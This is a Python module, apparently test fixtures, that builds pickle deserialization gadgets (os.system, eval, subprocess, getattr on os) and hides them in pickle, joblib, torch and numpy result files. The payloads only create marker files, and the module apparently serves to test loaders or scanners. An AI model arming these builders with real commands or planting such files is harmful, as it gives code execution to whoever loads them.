"""Result files that call a function, in every container a result may come in."""

import io
import os
import pickle
import subprocess
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import torch


class Calls:
    """Pickles as a call of a function."""

    def __init__(self, function: Callable[..., Any], *arguments: Any) -> None:
        self.call = (function, arguments)

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[Any, ...]]:
        return self.call


GADGETS: dict[str, Callable[[str], Any]] = {
    "os.system": lambda file: Calls(os.system, f"touch {file}"),
    "eval": lambda file: Calls(eval, f"open({file!r}, 'w').close()"),
    "subprocess": lambda file: Calls(subprocess.Popen, ["touch", file]),
    "open": lambda file: {"pose": [Calls(open, file, "w")]},
    "getattr": lambda file: Calls(getattr, Calls(__import__, "os"), "system"),
    "torch.load": lambda file: Calls(torch.load, file),
    "numpy.load": lambda file: Calls(np.load, file, None, True),
}


def as_pickle(content: Any, path: Path, protocol: int) -> None:
    path.write_bytes(pickle.dumps(content, protocol))


def as_joblib(content: Any, path: Path) -> None:
    path.write_bytes(zlib.compress(pickle.dumps({"x": content}, 4)))


def as_joblib_objects(content: Any, path: Path) -> None:
    """The gadget in the pickle that follows the description of an array of objects."""
    state = {"subclass": np.ndarray, "shape": (1,), "order": "C", "dtype": np.dtype(object), "allow_mmap": False}
    inner = pickle.dumps(state, 2)[2:-1]
    head = b"\x80\x02}(X\x01\x00\x00\x00acjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81" + inner + b"b"
    array = np.empty(1, object)
    array[0] = content
    path.write_bytes(head + pickle.dumps(array, 4) + b"u.")


def as_torch(content: Any, path: Path, zipped: bool) -> None:
    torch.save({"x": torch.zeros(2), "y": content}, path, _use_new_zipfile_serialization=zipped)


def as_storage(content: Any, path: Path) -> None:
    """The gadget in the legacy file inside a pickled tensor."""
    stream = io.BytesIO()
    torch.save(content, stream, _use_new_zipfile_serialization=False)
    storage = Calls(torch.storage._load_from_bytes, stream.getvalue())
    path.write_bytes(pickle.dumps(Calls(torch._utils._rebuild_tensor_v2, storage, 0, (1,), (1,), False, {})))


def stored_bytes(tensor: torch.Tensor) -> bytes:
    """The legacy file that a pickle of a tensor holds."""
    storage = tensor.__reduce_ex__(2)[1][0]  # type: ignore[index]
    data: bytes = storage.__reduce__()[1][0]
    return data


def as_npy(content: Any, path: Path) -> None:
    holder = np.empty((), object)
    holder[()] = {"x": content}
    with path.open("wb") as file:
        np.save(file, holder, allow_pickle=True)


DISGUISES: dict[str, Callable[[Any, Path], None]] = {
    "protocol 0": lambda content, path: as_pickle(content, path, 0),
    "protocol 2": lambda content, path: as_pickle(content, path, 2),
    "protocol 5": lambda content, path: as_pickle(content, path, 5),
    "joblib": as_joblib,
    "joblib's array of objects": as_joblib_objects,
    "torch zip": lambda content, path: as_torch(content, path, True),
    "torch legacy": lambda content, path: as_torch(content, path, False),
    "a tensor's storage": as_storage,
    "numpy": as_npy,
}
